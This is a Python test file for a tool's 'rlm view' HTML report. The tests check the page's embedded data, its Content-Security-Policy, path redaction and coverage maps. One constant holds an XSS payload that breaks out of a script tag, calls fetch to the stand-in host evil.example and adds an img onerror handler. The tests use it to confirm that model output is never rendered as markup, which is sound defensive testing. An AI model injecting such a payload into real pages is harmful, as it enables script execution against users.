"""`rlm view`: one file that holds all that it shows, asks nobody, and in which nothing is markup
that a model said."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import zlib
from array import array
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import rlmlang
from rlmlang.report.view.columns import Columns
from rlmlang.report.view.coverage import FATES, Extent
from rlmlang.testing import ScriptedEngine
from tests.batch.test_run import RECIPE, asking, pages, server
from tests.conftest import Rlm
from tests.servers import Server

__all__ = ["server"]
BLOCK = re.compile(r'<script type="application/json" id="([^"]*)">(.*?)</script>', re.DOTALL)
HOSTILE = '</script><script>fetch("//evil.example")</script><img src=x onerror=alert(1)>\u2028&amp;'


def shown(rlm: Rlm, *words: str) -> str:
    """The page that `rlm view` writes."""
    done = rlm("view", *words, "--out", "page.html")
    assert done.code == 0, done.err
    return Path("page.html").read_text(encoding="utf-8")


def blocks(page: str) -> dict[str, Any]:
    """The data of a page by the ids of its blocks."""
    found = BLOCK.findall(page)
    return {
        id: json.loads(text if text[:1] in "{[" else zlib.decompress(base64.b64decode(text)))
        for id, text in found
    }


def columns(packed: dict[str, Any]) -> dict[str, list[float]]:
    """The columns of a table, as a browser reads them."""
    data, at, rows = zlib.decompress(base64.b64decode(packed["data"])), 0, packed["rows"]
    found = {}
    for name, kind in packed["columns"]:
        width = 8 if kind == "d" else 4
        numbers = array(kind, data[at : at + width * rows])
        at += width * rows
        found[name] = list(numbers) if kind == "d" else added(numbers)
    return found


def added(steps: array[int]) -> list[float]:
    """The numbers whose differences those are, in 32 bits."""
    last, found = 0, []
    for step in steps:
        last = (last + step + (1 << 31)) % (1 << 32) - (1 << 31)
        found.append(float(last))
    return found


def hostile(folder: Path, rlm: Rlm, model: str | None = None) -> None:
    """A run whose answers try to be markup."""
    (folder / "find.rlm").write_text(
        'rlm 1\nprompt note(page: Slice) -> Text "Say."\nrecipe find(book: Text) -> [Text] {\n'
        "  budget { calls <= 9 }\n  let pages = split book by lines(per: 1)\n"
        "  return map pages with note()\n}\n"
    )
    (folder / "book.txt").write_text(f"One line.\n{HOSTILE}\n")
    engine = ScriptedEngine(lambda task: HOSTILE)
    given = {"book": Path("book.txt")}
    outcome = rlmlang.run(
        "find.rlm", sources=given, store=".rlm/store.db", engine=engine, model=model
    )
    assert outcome.result == [HOSTILE, HOSTILE]


def test_a_page_holds_the_run(book: Path, rlm: Rlm) -> None:
    given = ("--set", "question=Where does the key hang?", "--source", "book=book.txt")
    assert rlm("run", "find.rlm", *given).code == 0
    (run,) = json.loads(rlm("runs", "--json").out)
    found = blocks(shown(rlm))
    head = found["run-0-head"]
    assert head["result"] == "The key hangs behind the third bell."
    assert head["usage"]["calls"] == run["calls"]
    ended = [e for e in rlm("export").out.splitlines() if json.loads(e)["event"] == "call_finished"]
    assert found["run-0-calls"]["rows"] == len(ended)
    assert found["page"]["runs"] == [run["run"]]
    (source,) = head["coverage"]
    size = Path("book.txt").stat().st_size
    assert (source["name"], source["bytes"]["read"]) == ("book", size)
    spans = columns(found["run-0-spans"])
    assert [*zip(spans["start"], spans["end"], strict=True)] == [(0, size)]
    assert "The key hangs" in head["evidence"]["found"][0]["said"]
    assert sum(step["paid"]["calls"] for step in head["price"]["steps"]) == run["calls"]


def test_what_a_model_said_is_never_markup(folder: Path, rlm: Rlm) -> None:
    hostile(folder, rlm)
    page = shown(rlm, "--texts", "all")
    assert "</script><script>fetch" not in page and "<img" not in page
    assert page.count("<script") == page.count("</script>") == len(BLOCK.findall(page)) + 1
    found = blocks(page)
    assert found["run-0-head"]["result"] == [HOSTILE, HOSTILE]
    assert all(HOSTILE in text for text in found["run-0-texts"]["answers"].values())


def test_a_page_runs_its_own_script_and_loads_nothing(folder: Path, rlm: Rlm) -> None:
    hostile(folder, rlm)
    page = shown(rlm)
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy is not None
    rules = dict(r.strip().split(" ", 1) for r in policy[1].replace("&#39;", "'").split(";"))
    assert rules["default-src"] == "'none'" and "connect-src" not in rules
    for rule, tag in (("script-src", '<script type="module">'), ("style-src", "<style>")):
        text = page.partition(tag)[2].partition(f"</{tag[1:].split()[0].rstrip('>')}>")[0]
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert rules[rule] == f"'sha256-{digest}'"
    assert not re.findall(r'(?:src|href)="(?!data:)', BLOCK.sub("", page).split("<script")[0])


@pytest.mark.parametrize(("texts", "there"), [("none", False), ("2MB", True), ("all", True)])
def test_texts_are_there_as_wanted(texts: str, there: bool, book: Path, rlm: Rlm) -> None:
    given = ("--set", "question=Where does the key hang?", "--source", "book=book.txt")
    assert rlm("run", "find.rlm", *given).code == 0
    found = blocks(shown(rlm, "--texts", texts))
    requests = [b for id, b in found.items() if id.startswith("run-0-requests")]
    assert bool(requests) == there
    assert ("Nobody sang" in json.dumps(found)) == there


def test_a_page_for_others_says_nothing_of_where_files_lie(
    book: Path, rlm: Rlm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(book.resolve()))
    given = ("--set", "question=Where?", "--source", f"book={book.resolve()}/book.txt")
    assert rlm("run", str(book.resolve() / "find.rlm"), *given).code == 0
    assert str(book.resolve()) in json.dumps(blocks(shown(rlm)))
    assert str(book.resolve()) not in json.dumps(blocks(shown(rlm, "--redact")))


def test_two_runs_are_compared(book: Path, rlm: Rlm) -> None:
    for question in ("Where does the key hang?", "Who sang?"):
        given = ("--set", f"question={question}", "--source", "book=book.txt")
        assert rlm("run", "find.rlm", *given).code == 0
    second, first = (r["run"] for r in json.loads(rlm("runs", "--json").out))
    found = blocks(shown(rlm, first, second))
    assert {*found["page"]["runs"]} == {first, second} and found["page"]["change"] is not None
    assert "run-1-head" in found


def test_a_batch_is_its_items(folder: Path, rlm: Rlm, server: Server) -> None:
    pages(folder, 4, RECIPE.replace("budget", "on_error: skip\n  budget"))
    (folder / "pages/001.txt").write_text("This is page 1, refuse it.")
    assert rlm("batch", "one.rlm", *asking(server)).code == 1
    found = blocks(shown(rlm))
    items = {item["name"]: item for item in found["page"]["batch"]["items"]}
    assert {n: i["state"] for n, i in items.items()} == {
        "000": "finished", "001": "failed", "002": "finished", "003": "finished",
    }  # fmt: skip
    assert items["001"]["problem"] and found["page"]["runs"] == [i["run"] for i in items.values()]


def test_no_price_is_told_where_none_is_known(folder: Path, rlm: Rlm) -> None:
    hostile(folder, rlm, "acme/unheard-of")
    head = blocks(shown(rlm))["run-0-head"]
    assert head["usage"]["usd"] is None and head["usage"]["calls"] == 2
    assert [step["paid"]["usd"] for step in head["price"]["steps"]][-1] is None


def test_what_cannot_be_shown_is_a_coded_problem(book: Path, rlm: Rlm) -> None:
    assert "unknown-run" in rlm("view").err
    assert "file-unwritable" in rlm("view", "--out", "no/where.html").err
    assert rlm("view", "--texts", "some").code == 2


RANGES = st.lists(st.tuples(st.sampled_from(FATES[:-1]), st.integers(0, 40), st.integers(1, 9)))


@given(RANGES, st.integers(0, 60))
def test_the_map_has_every_byte_once_with_its_first_fate(ranges: Any, size: int) -> None:
    extent = Extent(0, size)
    for fate, start, long in ranges:
        extent.add(fate, start, start + long)
    spans = list(extent.spans())
    assert all(one.end == two.start and one.fate != two.fate for one, two in pairwise(spans))
    assert sum(s.end - s.start for s in spans) == extent.size
    for span in spans:
        for byte in range(span.start, span.end):
            held = [f for f, start, long in ranges if start <= byte < start + long]
            assert span.fate == min(held, key=FATES.index, default="never")


@given(st.lists(st.tuples(st.integers(-(1 << 31), (1 << 31) - 1), st.integers(0, 1 << 52))))
def test_columns_are_unpacked_as_they_were(rows: list[tuple[int, int]]) -> None:
    packed = json.loads(json.dumps(Columns.of("narrow wide", rows).packed))
    found = columns(packed)
    assert [*zip(found["narrow"], found["wide"], strict=True)] == [(a, b) for a, b in rows]
